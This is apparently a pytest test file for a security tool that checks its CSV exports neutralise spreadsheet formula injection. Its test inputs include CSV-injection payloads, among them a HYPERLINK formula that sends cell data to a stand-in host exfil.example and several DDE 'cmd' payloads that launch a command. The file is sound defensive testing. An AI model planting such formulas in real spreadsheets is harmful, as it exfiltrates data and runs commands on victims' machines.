"""Every CSV taintline writes neutralises spreadsheet formulas in attacker-controlled cells
(OWASP CSV injection: a leading ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a
``'``), keeps plain numbers as numbers, and goes through the one writer in
``taintline.csvsafe``."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from tests.builders.endoflife import cyclonedx_sbom

from taintline.case import Case
from taintline.cli.main import main
from taintline.csvsafe import safe_cell
from taintline.intel.export import export_intel
from taintline.model import Finding, Indicator, IndicatorType, Severity
from taintline.report import OutputFormat, render_findings
from taintline.report.graph import write_rows_csv

HYPERLINK = '=HYPERLINK("http://exfil.example/?"&A1,"open")'
HOSTILE = [HYPERLINK, "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_a_quote(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "+3.5", "-1e-3", "-.5", "42", "", "a=b", "evil.com", "'=x"])
def test_plain_values_and_numbers_stay(cell: str) -> None:
    assert safe_cell(cell) == cell
    assert safe_cell(None) == "" and safe_cell(-7) == "-7"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(text: str, *expected: str) -> None:
    cells = _cells(text)
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not (cell.startswith("-") and not re.fullmatch(r"-[0-9.e-]+", cell)), cell
    for value in expected:
        assert "'" + value in cells, (value, cells)


def test_findings_csv_of_every_verb() -> None:
    """The findings renderer every verb's ``--format csv`` uses (scan, hunt, verify, eol,
    cascade, report)."""
    finding = Finding(
        kind="hunt.indicator-seen",
        severity=Severity.HIGH,
        subject=HYPERLINK,
        message="@SUM(1+1)",
        host="-2+3+cmd|' /C calc'!A0",
        time=datetime(2023, 3, 29, tzinfo=UTC),
        indicators=("domain:evil.com",),
    )
    out = io.StringIO()
    render_findings([finding], OutputFormat.CSV, out)
    _assert_safe(out.getvalue(), HYPERLINK, "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0")


def test_hunt_csv_with_a_hostile_host_name(tmp_path: Path) -> None:
    """A proxy log's host column is the attacker's to write."""
    log = tmp_path / "proxy.csv"
    log.write_text(
        "timestamp,hostname,src_ip,dst_ip,url\n"
        f'2023-03-29T09:42:00Z,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",10.0.0.18,'
        "192.0.2.70,http://bad.example/payload.bin\n"
    )
    case_path = tmp_path / "case.duckdb"
    with Case(case_path) as case:
        case.add_indicators([Indicator(IndicatorType.URL, "http://bad.example/payload.bin", "t")])
    out = tmp_path / "hunt.csv"
    code = main(["hunt", str(log), "--format", "csv", "-o", str(out), "--case", str(case_path)])
    assert code == 1  # findings
    _assert_safe(out.read_text(), HYPERLINK)


def test_graph_rows_csv_with_a_hostile_sbom_component(tmp_path: Path) -> None:
    sbom = tmp_path / "bom.cdx.json"
    sbom.write_text(cyclonedx_sbom("=cmd|' /C calc'!A0", "1.0", [{"name": "@SUM(1+1)"}]))
    case_path = tmp_path / "case.duckdb"
    assert main(["graph", "add", str(sbom), "--case", str(case_path)]) == 0
    out = tmp_path / "edges.csv"
    assert main(["graph", "show", "--format", "csv", "-o", str(out), "--case", str(case_path)]) == 0
    text = out.read_text()
    assert "software:@sum(1+1)" in text  # (graph keys are typed and lower-cased)
    _assert_safe(text)
    rows = io.StringIO()  # the same writer, with a cell the name starts
    write_rows_csv([{"name": "@SUM(1+1)", "count": -3}], rows)
    assert _cells(rows.getvalue()) == ["name", "count", "'@SUM(1+1)", "-3"]


def test_intel_export_csv_with_hostile_names(tmp_path: Path) -> None:
    with Case(tmp_path / "case.duckdb") as case:
        case.add_indicators(
            [
                Indicator(
                    IndicatorType.FILENAME,
                    "=HYPERLINK(1).exe",
                    "@feed",
                    description="+cmd|' /C calc'!A0",
                    campaign="-x",
                    confidence=70,
                )
            ]
        )
        out = io.StringIO()
        assert export_intel(case, "csv", out) == 1
    _assert_safe(out.getvalue(), "@feed", "+cmd|' /C calc'!A0", "-x")


def test_no_csv_writer_outside_the_helper() -> None:
    """One writer for every CSV taintline writes: a new ``csv.writer`` elsewhere would skip
    the neutralisation."""
    root = Path(__file__).resolve().parents[2] / "src" / "taintline"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "csvsafe.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], "write CSV through taintline.csvsafe.SafeWriter"
